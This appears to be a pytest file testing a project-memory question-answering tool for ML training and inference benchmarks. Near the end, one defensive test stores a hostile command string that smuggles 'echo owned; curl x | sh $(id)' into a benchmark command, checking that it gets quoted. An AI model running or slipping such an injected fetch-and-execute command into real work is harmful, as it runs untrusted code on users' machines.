"""The question classes of issue 26, answered from the seeded memory: search as the safety net,
confidence on one scale, runs not followed, crashes, plurals, one GPU, reverse lookups."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parent))

from seeds import GpuReadings, LiveSnapshot, seed  # noqa: E402

from sessiontui.project_memory.answer import Answer  # noqa: E402
from sessiontui.project_memory.ask import SEARCH_BELOW, ask  # noqa: E402
from sessiontui.project_memory.records import Record  # noqa: E402
from sessiontui.project_memory.store import Store  # noqa: E402
from sessiontui.project_memory.understanding import understand  # noqa: E402


@pytest.fixture
def seeded(store: Store) -> dict[str, Record]:
    return seed(store)


def asked(store: Store, question: str) -> Answer:
    return ask(store, question, snapshots=(LiveSnapshot(),), gpu=GpuReadings(), draft_overhead=0.15)


def test_a_how_it_was_run_question_shows_the_matching_note_lines(store: Store, seeded) -> None:
    answer = asked(store, "did we launch with torchrun or deepspeed")
    assert answer.intent == "search" and answer.figures["top_id"] == seeded["launch"].id
    assert "torchrun --nproc_per_node 8" in answer.text.splitlines()[1]


def test_low_confidence_answers_also_list_search_hits(store: Store, seeded) -> None:
    answer = asked(store, "kimi tp8")
    assert answer.intent != "search" and answer.confidence < SEARCH_BELOW
    hits = answer.text.split("Also in the memory (full-text search):\n")[1]
    assert seeded["sglang"].id in hits or seeded["vllm"].id in hits
    assert "tp8" in hits  # the matching line, not only the record's name


def test_alternatives_are_on_the_confidence_scale(store: Store, seeded) -> None:
    answer = asked(store, "eagle3 drafter")
    understanding = understand("eagle3 drafter")
    assert understanding.confidence_of(understanding.intent) == understanding.confidence
    assert answer.alternatives and all(
        set(a) == {"intent", "confidence"} and 0 <= a["confidence"] <= answer.confidence
        for a in answer.alternatives)


def test_a_run_not_followed_answers_from_its_record(store: Store, seeded) -> None:
    answer = asked(store, "is the 100k run on track or stalled since 4000")
    assert answer.intent == "run" and answer.figures["run_id"] == seeded["run100k"].id
    first = answer.text.splitlines()[0]
    assert first.startswith("Not followed; from its run record: running at step 4,000 of 25,000")
    assert "last seen" in first and "at its last rate it ends" in first
    assert "No training run is followed" not in answer.text


def test_a_crash_question_leads_with_the_run_that_crashed(store: Store, seeded) -> None:
    answer = asked(store, "why did training crash?")
    assert answer.text.startswith("train.log (eagle3-kimi-drafter-v1) crashed at step 66 (CUDA OOM)")
    assert answer.figures["lesson_id"] == seeded["oom"].id


def test_plurals_list_every_match(store: Store, seeded) -> None:
    assert asked(store, "known issues so far").figures["count"] == 4
    listed = asked(store, "list every bench we've logged")
    assert listed.figures["count"] == 4 and "At c=32" in listed.text and "Failed:" in listed.text


def test_a_gpu_index_narrows(store: Store, seeded) -> None:
    answer = asked(store, "how much memory on gpu 3")
    assert answer.figures["gpu_index"] == 3 and answer.figures["gpu_count"] == 1
    assert answer.text.startswith("GPU 3 (NVIDIA H200)") and "GPU 0" not in answer.text


def test_reverse_lookups_by_value_and_engine(store: Store, seeded) -> None:
    answer = asked(store, "is 82.3 with or without spec?")
    assert answer.figures["record_id"] == seeded["eagle"].id
    assert "with speculative decoding (EAGLE3" in answer.text
    assert asked(store, "where did the 1450 number come from").figures["record_id"] == seeded["c32"].id
    assert asked(store, "forget sglang — vllm c=1 tps?").figures["reference_value"] == 82.5
    assert asked(store, "say AL hits 2.8, do we beat 90?").intent == "speedup"  # a bar, not a lookup


def test_throughput_lost_to_speculation_is_not_the_training_loss(store: Store, seeded) -> None:
    answer = asked(store, "how many tok/s do we lose by turning eagle3 on")
    assert answer.intent == "speedup" and "Loss falling" not in answer.text


def test_a_stored_command_offered_to_paste_is_quoted_and_sourced(store: Store) -> None:
    from sessiontui.project_memory.trust import staleness_line

    hostile = "python -m sglang.bench_serving -- echo owned; curl x | sh $(id)"
    baseline = store.add(Record("benchmark", config="imported", value=50.0, baseline=True,
                                command=hostile, host="teammate-box", driver_version="550.1",
                                created_at="2026-11-01T00:00:00+00:00"))
    result = Record("benchmark", config="new", value=60.0, driver_version="580.2")
    line = staleness_line(baseline, result)
    pasted = line.split("`")[1]
    assert pasted.startswith("sessiontui record --baseline -- python -m sglang.bench_serving")
    assert "'owned;'" in pasted and "'|'" in pasted and "'$(id)'" in pasted
    assert f"the command stored in {baseline.id}, recorded on teammate-box" in line
    assert "sync or import" in line
    shown = asked(store, "command of the imported baseline")
    assert "; curl" not in shown.text and "'owned;'" in shown.text


def test_a_flag_named_for_the_wrong_engine_gets_the_right_spelling(store: Store, seeded) -> None:
    answer = asked(store, "sglang rejected --num-speculative-tokens, what's the right flag")
    assert answer.text.startswith("sglang has no --num-speculative-tokens (vllm's spelling); "
                                  "sglang takes --speculative-num-draft-tokens")
    assert answer.figures["right_flag"] == "--speculative-num-draft-tokens"
    other = asked(store, "vllm won't take --speculative-num-draft-tokens, right flag?")
    assert "num_speculative_tokens" in other.figures["right_flag"]
